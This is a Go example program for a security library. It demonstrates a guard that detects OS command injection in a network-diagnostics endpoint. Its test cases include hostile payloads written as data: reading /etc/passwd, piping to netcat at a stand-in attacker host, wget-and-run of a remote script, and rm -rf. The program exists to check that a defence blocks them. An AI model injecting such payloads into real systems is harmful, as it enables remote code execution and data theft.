// The oscommand example applies the hybrid taint-inference model to OS
// command injection — the attack class positive taint inference was
// originally built for. A "network diagnostics" endpoint builds a shell
// command from user input; the oscmd guard blocks every injection form
// while letting benign lookups through.
package main

import (
	"context"
	"fmt"
	"log"
	"strings"

	"joza/internal/nti"
	"joza/internal/oscmd"
)

func main() {
	if err := run(); err != nil {
		log.Fatal(err)
	}
}

func run() error {
	ctx := context.Background()
	// The program's command-building fragments (what PTI trusts).
	guard := oscmd.New([]string{
		"nslookup ",
		"ping -c 3 ",
		"-timeout=2 ",
	})
	fmt.Printf("trusted command fragments: %d\n\n", guard.FragmentCount())

	cases := []struct {
		label string
		host  string
	}{
		{"benign lookup", "example.com"},
		{"separator injection", "example.com; cat /etc/passwd"},
		{"pipe exfiltration", "example.com | nc evil.example 4444"},
		{"command substitution", "$(wget http://evil.example/x.sh -O- | sh)"},
		{"backtick substitution", "`id`"},
		{"background chain", "example.com & rm -rf /tmp/cache"},
	}
	for _, c := range cases {
		cmd := "nslookup -timeout=2 " + c.host
		v, err := guard.Check(ctx, cmd, []nti.Input{{Source: "get", Name: "host", Value: c.host}})
		if err != nil {
			return err
		}
		fmt.Printf("=== %s ===\n", c.label)
		fmt.Printf("command: %q\n", cmd)
		if v.Attack {
			fmt.Printf("BLOCKED (detected by %s)\n", strings.Join(v.DetectedBy(), " and "))
			for _, r := range v.Reasons() {
				fmt.Printf("  - %s\n", r)
			}
		} else {
			fmt.Println("allowed")
		}
		fmt.Println()
	}

	// Second-order: the payload came from storage, not this request.
	v, err := guard.Check(ctx, "nslookup -timeout=2 example.com; curl evil.example",
		[]nti.Input{{Source: "get", Name: "page", Value: "diagnostics"}})
	if err != nil {
		return err
	}
	fmt.Printf("second-order command (inputs unrelated): NTI=%v PTI=%v hybrid=%v\n",
		v.NTI.Attack, v.PTI.Attack, v.Attack)
	if !v.Attack {
		return fmt.Errorf("second-order command injection missed")
	}
	return nil
}
